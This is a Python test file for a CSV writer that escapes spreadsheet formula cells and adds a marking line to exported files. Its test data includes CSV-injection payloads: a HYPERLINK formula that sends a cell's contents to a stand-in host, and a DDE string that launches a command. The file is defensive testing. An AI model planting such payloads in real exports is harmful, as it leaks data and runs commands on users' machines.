"""The shared CSV writer neutralises formula cells and leaves everything else as csv would."""

from __future__ import annotations

import csv
import io

import pytest

from desist.core import safecsv
from desist.core.marking import MARKING

FORMULAS = [
    '=HYPERLINK("http://ev.il/?"&B2,"Details") urgent',
    "+44 20",
    "-1+1",
    "@SUM(A1)",
    "-2-cmd|' /C calc'!A0",
    "-0.1e",
    "+",
    "-",
]


@pytest.mark.parametrize("cell", [*FORMULAS, "\tTAB", "\rCR"])
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    buf = io.StringIO()
    safecsv.writer(buf).writerow([cell, "plain"])
    assert safecsv.marked_rows(buf.getvalue()) == [["'" + cell, "plain"]]


@pytest.mark.parametrize("cell", ["-0.154", "+3", "-12", "-1.5e-3", "-.5", "+2.", "-7E+2"])
def test_a_plain_signed_number_stays_a_number(cell: str) -> None:
    """A report's computed "-0.154" is no formula: escaped, it reads as text in R, pandas and
    spreadsheets (tester finding)."""
    buf = io.StringIO()
    safecsv.writer(buf).writerow([cell])
    assert safecsv.marked_rows(buf.getvalue()) == [[cell]]
    assert float(safecsv.marked_rows(buf.getvalue())[0][0]) == float(cell)


def test_other_cells_are_written_as_csv_writes_them() -> None:
    row = ["plain", "a,b", 'say "hi"', -3, 2.5, None, "", "x=1"]
    mine, stdlib = io.StringIO(), io.StringIO()
    safecsv.writer(mine).writerows([row, row])
    csv.writer(stdlib).writerows([[MARKING], row, row])
    assert mine.getvalue() == stdlib.getvalue()


def test_dict_writer_neutralises_header_and_rows() -> None:
    buf = io.StringIO()
    w = safecsv.DictWriter(buf, fieldnames=["=h", "b"], extrasaction="ignore")
    w.writeheader()
    w.writerow({"=h": "=1+1", "b": 2, "extra": "dropped"})
    assert safecsv.marked_rows(buf.getvalue()) == [["'=h", "b"], ["'=1+1", "2"]]


class _Echo:
    def write(self, value: str) -> str:
        return value


def test_the_marking_is_the_first_line_before_the_headings_however_written() -> None:
    """ADR 0030: a renamed or pasted copy keeps the marking, so it is in the content, a row of
    one cell before the headings, whether the file is written to a buffer, streamed through
    an echo (the first chunk carries it) or written by DictWriter."""
    buf = io.StringIO()
    safecsv.writer(buf).writerows([["a", "b"], ["1", "2"]])
    assert buf.getvalue().splitlines() == [MARKING, "a,b", "1,2"]
    stream = safecsv.writer(_Echo())
    assert stream.writerow(["a", "b"]) == f"{MARKING}\r\na,b\r\n"
    assert stream.writerow(["1", "2"]) == "1,2\r\n"  # once only
    dicts = io.StringIO()
    w = safecsv.DictWriter(dicts, fieldnames=["a"])
    w.writeheader()
    w.writerow({"a": "1"})
    assert dicts.getvalue().splitlines() == [MARKING, "a", "1"]


def test_readers_skip_the_marking_line_and_refuse_a_file_without_it() -> None:
    buf = io.StringIO()
    safecsv.writer(buf).writerows([["a", "b"], ["1", "2"]])
    assert safecsv.marked_dicts(buf.getvalue()) == [{"a": "1", "b": "2"}]
    with pytest.raises(ValueError, match=MARKING):
        safecsv.marked_rows("a,b\r\n1,2\r\n")
